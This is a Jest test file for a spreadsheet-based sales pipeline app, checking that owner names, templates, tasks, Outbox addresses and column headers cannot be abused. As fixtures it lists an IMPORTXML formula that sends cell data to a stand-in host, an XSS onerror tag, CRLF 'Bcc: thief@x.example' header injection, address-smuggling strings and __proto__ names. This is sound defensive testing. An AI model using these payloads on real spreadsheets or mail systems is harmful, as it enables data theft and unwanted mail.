import { expect, test } from '@jest/globals';
import type { Host } from '../../preview/google/host';
import { formulasIn } from '../fuzz/world';
import { ask, OWNER, rowsOf } from '../support/standIn';
import { aPipeline, at, dealNamed, does, idOf, newDeal, QUALIFIED, sweeps, types } from './desk';
import { filled, fillsIn, sets, works } from './rules';

const ANN = 'ann@example.com';

/** What a colleague or a customer might call something to reach a sheet, a page or a mail header. */
const PAYLOADS = [
  '=IMPORTXML("http://x.example/?"&A1,"//a")',
  '+HYPERLINK("http://x.example")',
  '<img src=x onerror=alert(1)>',
  'Hello\r\nBcc: thief@x.example',
  '{{Owner}}{{constructor}}{{__proto__}}',
] as const;

/** Text as a person types it who wants it to stay text. */
const asText = (text: string) => (/^[=+]/.test(text) ? `'${text}` : text);

function expectHarmless(host: Host): void {
  expect(formulasIn(host)).toEqual([]);
  expect(host.mails.length).toBeGreaterThan(0);
  for (const { to, cc, bcc, subject, html } of host.mails) {
    expect([OWNER, ANN, 'li@example.cn']).toContain(to);
    expect([cc, bcc]).toEqual(['', '']);
    expect(subject).not.toMatch(/[\r\n]/);
    expect(html).not.toMatch(/<img src=x|native code|\[object/);
  }
}

test.each(PAYLOADS)(
  'an owner, a template, a task, a reason called %j does nothing but stand there',
  (name) => {
    const host = aPipeline();
    sets(host, 'Also mail to', 'li@example.cn');
    sets(host, 'Mails to contacts wait for approval', 'No');
    fillsIn(host, 'Team', 3, [[asText(name), ANN, 'Rep']]);
    fillsIn(host, 'Templates', 2, [[asText(name), asText(name), asText(`{{Deal}} ${name}`)]]);
    fillsIn(host, 'Automations', 2, [
      ['enters the stage', 'Needs analysis', 'Task', 'Owner', 0, asText(name)],
      ['enters the stage', 'Needs analysis', 'Mail', 'Contact', 0, '', asText(name)],
      ['enters the stage', 'Needs analysis', 'Next step', '', 0, asText(name)],
    ]);
    works(host);
    newDeal(host, 'Mill', { ...QUALIFIED, Email: 'li@example.cn', 'Close date': '2026-01-15' });
    const id = idOf(host, 'Mill');
    const facts = { Owner: name, Contact: name, Source: name, 'Lost reason': name, Plan: name };
    expect(ask(host, 'saveFacts', { id, facts })).toMatchObject({ ok: true });
    expect(ask(host, 'addTask', { id, task: name, due: '2026-02-05' })).toMatchObject({ ok: true });
    types(host, 'Mill', { Stage: 'Needs analysis' });
    works(host);
    for (const mail of rowsOf(host, 'Outbox').keys()) {
      does(host, { edit: { tab: 'Outbox', range: `B${mail + 2}`, values: [['Waiting']] } });
    }
    works(host);
    does(host, { menu: 'replayPastDay', answers: [{ text: '2026-02-02' }] });
    does(host, { menu: 'whatIf' });
    does(host, { menu: 'refreshReports' });
    does(host, { menu: 'sendStallReport' });
    works(host);
    sweeps(host);
    expect(filled(host, 'Tasks').length).toBe(2);
    expect(dealNamed(host, 'Mill')).toMatchObject({ Source: name.trim(), Stage: 'Needs analysis' });
    expectHarmless(host);
  },
);

test.each([
  'thief@x.example',
  `${ANN},thief@x.example`,
  `${ANN};thief@x.example`,
  `${ANN}\nBcc: thief@x.example`,
  `Ann <thief@x.example>`,
  `thief@x.example (${ANN})`,
  `${ANN}.x.example`,
  'thief@x.example@example.com',
  'ANN@EXAMPLE.COM.',
])(
  'whatever stands in To or Cc of a waiting mail, %j reaches nobody outside of the team',
  (address) => {
    const host = aPipeline();
    fillsIn(host, 'Team', 3, [['Ann', ANN, 'Rep']]);
    const headers = host.names().englishHeaders(host.names().tab('Outbox'));
    const mail = { Key: 'k', State: 'Waiting', To: ANN, Subject: 'News', Text: 'x', HTML: 'x' };
    const row = (cells: Readonly<Record<string, string>>) => headers.map((h) => cells[h] ?? '');
    const values = [row({ ...mail, To: address }), row({ ...mail, Key: 'l', Cc: address })];
    does(host, { apiWrite: { tab: 'Outbox', range: 'A2', values } });
    works(host);
    for (const { to, cc, bcc } of host.mails) {
      expect([`${to} ${cc} ${bcc}`, [`${ANN}  `, `${ANN} ${ANN} `]]).toEqual([
        `${to} ${cc} ${bcc}`,
        expect.arrayContaining([`${to} ${cc} ${bcc}`]),
      ]);
    }
    expect(filled(host, 'Outbox').map(({ State }) => State)).not.toContain('Waiting');
  },
);

/** As a column's header `__proto__` is left out: a page's request cannot name it. */
const headerOf = (name: string) => (name === '__proto__' ? 'prototype' : name);

test.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty'])(
  'owner, currency, category, source, reason, own column and setting may be called %s',
  (name) => {
    const header = headerOf(name);
    const host = aPipeline();
    fillsIn(host, 'Team', 3, [[name, ANN, 'Rep']]);
    const settings = host.names().tab('Settings').lastRow + 1;
    does(host, {
      edit: { tab: 'Settings', range: `A${settings}:B${settings}`, values: [[name, name]] },
    });
    does(host, { insertColumns: { tab: 'Deals', at: 2, count: 1 } });
    does(host, { edit: { tab: 'Deals', range: 'B1', values: [[header]] } });
    fillsIn(host, 'Gates', 40, [['Needs analysis', 'Entering', header, 'is filled', '']]);
    const odd = { Owner: name, Currency: name, Category: name, Source: name, 'Lost reason': name };
    newDeal(host, 'Mill', { ...QUALIFIED, Amount: 900, ...odd });
    newDeal(host, 'Dam', { ...QUALIFIED, [header]: 'Yes' }, 'Needs analysis');
    expect(
      ask(host, 'saveFacts', { id: idOf(host, 'Dam'), facts: { [header]: name } }),
    ).toMatchObject({
      ok: true,
    });
    types(host, 'Mill', { Stage: 'Needs analysis' });
    works(host);
    does(host, { menu: 'refreshReports' });
    does(host, { menu: 'sendStallReport' });
    for (const call of ['boardView', 'outlook'])
      expect(ask(host, call, {})).toMatchObject({ ok: true });
    sweeps(host);
    expect(dealNamed(host, 'Mill')).toMatchObject({
      Owner: name,
      Source: name,
      Stage: 'Qualification',
    });
    expect(dealNamed(host, 'Dam')).toMatchObject({ [header]: name, Stage: 'Needs analysis' });
    expect(at(host, header, 1)).toBe('B1');
  },
);
